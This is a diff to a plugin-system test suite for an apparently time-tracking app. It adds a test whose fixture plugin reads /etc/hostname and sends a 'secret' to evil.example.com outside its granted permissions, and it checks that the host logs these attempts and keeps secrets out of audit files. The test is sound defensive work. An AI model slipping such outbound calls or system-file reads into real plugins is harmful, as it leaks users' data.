@@ -239,10 +239,63 @@ const steps: Record<string, (scene: Scene) => Promise<void>> = {
     match((await cli(scene, "plugin", "install", file)).err, /is not what its checksums\.json says/);
   },
 
+  "what a plugin did with its rights stands beside them, and what it tried without any": async (scene) => {
+    const manifest = {
+      id: "acme.curious",
+      version: "1.0.0",
+      title: "Curious",
+      engines: { timetrack: "^1.0.0" },
+      main: "main.js",
+      permissions: { read: ["${plugin}/own.txt"], env: ["LANG", "HOME"], host: ["calls:read", "activity:read"] },
+      contributes: { commands: [{ id: "look", title: "Look" }] },
+    };
+    const folder = join(scene.folder, "curious");
+    await Deno.mkdir(folder);
+    await Deno.writeTextFile(join(folder, "manifest.json"), JSON.stringify(manifest));
+    await Deno.writeTextFile(join(folder, "own.txt"), "mine");
+    await Deno.writeTextFile(
+      join(folder, "main.js"),
+      `export function activate(context) {
+        context.commands.register("look", async () => {
+          const to = new Date().toISOString();
+          for (let times = 0; times < 3; times++) await context.calls.list({ from: to, to });
+          Deno.readTextFileSync(context.pluginFolder + "/own.txt");
+          Deno.env.get("LANG");
+          try { Deno.readTextFileSync("/etc/hostname"); } catch {}
+          await fetch("https://evil.example.com/?secret=1").catch(() => {});
+        });
+      }`,
+    );
+    await post(scene, "/api/plugins/install", { folder });
+    await post(scene, "/api/plugins/acme.curious/enable", { grant: true });
+    await post(scene, "/api/plugins/acme.curious/commands/look");
+
+    const { rights, tried } = (await plugin(scene, "acme.curious"))!;
+    const used = (text: RegExp) => rights.find((right) => text.test(right.text))?.uses;
+    equal([used(/telephone calls/), used(/programs and windows/)], [3, 0]);
+    if (Deno.build.os === "windows") return;
+    ok(used(/Read these files/)! > 0);
+    ok(used(/settings of the system/)! > 0);
+    equal(tried.map(({ kind, what }) => `${kind} ${what}`).toSorted(), [
+      "net evil.example.com:443",
+      "read /etc/hostname",
+    ]);
+
+    // It is still known after the end of its process.
+    await post(scene, "/api/plugins/acme.curious/disable");
+    equal((await plugin(scene, "acme.curious"))?.tried.length, 2);
+    // Addresses may carry secrets: none stays in a file.
+    const folderOfAudits = join(scene.host.home, "cache/audit");
+    const files = [...Deno.readDirSync(folderOfAudits)].map(({ name }) =>
+      Deno.readTextFileSync(join(folderOfAudits, name))
+    );
+    equal(files.filter((text) => text.includes("secret")), []);
+  },
+
   "plugin remove takes all versions and what was granted": async (scene) => {
     await post(scene, `/api/plugins/${ID}/remove`, { data: true });
     const folders = [...Deno.readDirSync(join(scene.host.home, "plugins"))].map(({ name }) => name).toSorted();
-    equal(folders, [".earlier", "acme.unsigned", "acme.web"]);
+    equal(folders, [".earlier", "acme.curious", "acme.unsigned", "acme.web"]);
     equal([...Deno.readDirSync(join(scene.host.home, "plugins/.earlier"))].map(({ name }) => name), ["acme.web"]);
     const again = await post(scene, "/api/market/install", { source: `npm:${PACKAGE}@1.0.0` });
     equal([again.state, again.granted, again.earlier], ["consent", null, null]);
